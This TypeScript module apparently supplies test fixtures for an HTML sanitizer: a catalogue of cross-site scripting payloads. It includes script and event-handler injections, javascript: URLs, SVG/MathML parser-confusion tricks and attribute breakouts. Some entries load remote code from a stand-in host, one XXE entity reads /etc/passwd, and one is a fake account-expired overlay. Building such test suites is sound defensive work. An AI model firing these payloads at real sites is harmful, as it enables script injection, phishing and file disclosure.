import { family, type Payload } from './payload.ts';

const tags = family('markup', {
  script: '<script>__pwned=1</script>',
  'script out of an attribute': '"><script>__pwned=1</script>',
  'script out of a script': '</script><script>__pwned=1</script>',
  'script out of a title': '</title><script>__pwned=1</script>',
  'script out of a text area': '</textarea><script>__pwned=1</script>',
  'script from elsewhere': '<script src="//example.com/x.js"></script>',
  'picture that fails': '<img src=x onerror="__pwned=1">',
  'picture out of an attribute': `'><img src=x onerror=__pwned=1>`,
  'picture that never ends': '<img src=x onerror=__pwned=1//',
  'picture from elsewhere': '<img src=//example.com/x.png>',
  'frame with a document': '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  'frame with a script address': '<iframe src="javascript:parent.__pwned=1"></iframe>',
  object: '<object data="javascript:__pwned=1"></object>',
  embed: '<embed src="data:text/html,<script>parent.__pwned=1</script>">',
  'form with an action': '<form action="javascript:__pwned=1"><input type=submit autofocus>',
  'button with an action': '<button formaction="javascript:__pwned=1" autofocus>Calcular</button>',
  'field with the focus': '<input autofocus onfocus=__pwned=1>',
  'fold that opens': '<details open ontoggle=__pwned=1>x</details>',
  'body that loads': '<body onload=__pwned=1>',
  'video without source': '<video><source onerror=__pwned=1></video>',
  'sound without source': '<audio src onerror=__pwned=1>',
  'text that scrolls': '<marquee onstart=__pwned=1>x</marquee>',
  'page that moves on': '<meta http-equiv=refresh content="0;url=//example.com/">',
  'other base for all addresses': '<base href="//example.com/">',
  'style sheet from elsewhere': '<link rel=stylesheet href=//example.com/x.css>',
  'style that hides all': '<style>*{display:none!important}</style>',
  'link with a script': '<a href="javascript:__pwned=1">Seguir</a>',
  'link with a broken script': '<a href="jav&#x09;ascript:__pwned=1">Seguir</a>',
  'link with a document': '<a href="data:text/html,<script>__pwned=1</script>">Seguir</a>',
  'dialog over the page': '<dialog open style="inset:0">Su cuenta venció</dialog>',
  'pop-over': '<div popover onbeforetoggle=__pwned=1 id=p></div><button popovertarget=p autofocus>x</button>',
});

const tricks = family('parser', {
  'drawing that loads': '<svg onload=__pwned=1>',
  'script in a drawing': '<svg><script>__pwned=1</script></svg>',
  'drawing that moves': '<svg><animate onbegin=__pwned=1 attributeName=x dur=1s></svg>',
  'link in a drawing': '<svg><a xlink:href="javascript:__pwned=1"><text y=20>x</text></a></svg>',
  'link set by a movement':
    '<svg><a><set attributeName=href to="javascript:__pwned=1"></set><text y=20>x</text></a></svg>',
  'drawing out of a drawing':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=__pwned=1/>#x">',
  'foreign part of a drawing': '<svg><foreignObject><img src=x onerror=__pwned=1></foreignObject></svg>',
  'style in a drawing': '<svg></p><style><a id="</style><img src=x onerror=__pwned=1>">',
  'formula with a link': '<math href="javascript:__pwned=1">x</math>',
  'formula that becomes a picture':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__pwned=1&gt;">',
  'form within a form': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__pwned=1>',
  template: '<template><img src=x onerror=__pwned=1></template>',
  'template with a shadow': '<div><template shadowrootmode=open><img src=x onerror=__pwned=1></template></div>',
  'without scripts': '<noscript><p title="</noscript><img src=x onerror=__pwned=1>">',
  'old quotation': '<xmp><p title="</xmp><img src=x onerror=__pwned=1>">',
  'comment that ends early': '<!--><img src=x onerror=__pwned=1>-->',
  'comment that ends late': '<!-- --!><img src=x onerror=__pwned=1>',
  'character data': '<![CDATA[<img src=x onerror=__pwned=1>]]>',
  'processing instruction': '<?xml-stylesheet href="javascript:__pwned=1"?>',
  entities: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'written as entities': '&lt;img src=x onerror=__pwned=1&gt;',
  'written as numbers': '&#60;img src=x onerror=__pwned=1&#62;',
  'written as escapes': String.raw`\u003cimg src=x onerror=__pwned=1\u003e`,
  'written as old escapes': String.raw`\x3cimg src=x onerror=__pwned=1\x3e`,
  'wide signs': '＜img src=x onerror=__pwned=1＞',
  'letters that fold': '<ſcript>__pwned=1</ſcript><ıframe>',
  'NUL within a tag': '<scr\0ipt>__pwned=1</scr\0ipt><img\0src=x onerror=__pwned=1>',
  'slash for a blank': '<svg/onload=__pwned=1//',
  'names of the page taken': '<form id=location><input name=search></form><a id=normaCircular href=x></a>',
  'names of the document taken': '<img name=body><img name=querySelector><form name=createElement>',
});

const attributes = family('attribute', {
  'handler after double quotes': '" onmouseover=__pwned=1 autofocus onfocus=__pwned=1 x="',
  'handler after single quotes': `' onfocus=__pwned=1 autofocus x='`,
  'handler after a blank': 'x onfocus=__pwned=1 autofocus',
  'handler after a grave accent': '`` onfocus=__pwned=1 autofocus',
  'style over the page': '" style="position:fixed;inset:0;background:red" x="',
  'style with an address': '" style="background:url(//example.com/x)" x="',
  'key that clicks': '" accesskey=x onclick=__pwned=1 x="',
});

/** Markup, markup that parsers disagree about, and ways out of an attribute. */
export const markupPayloads: readonly Payload[] = [...tags, ...tricks, ...attributes];
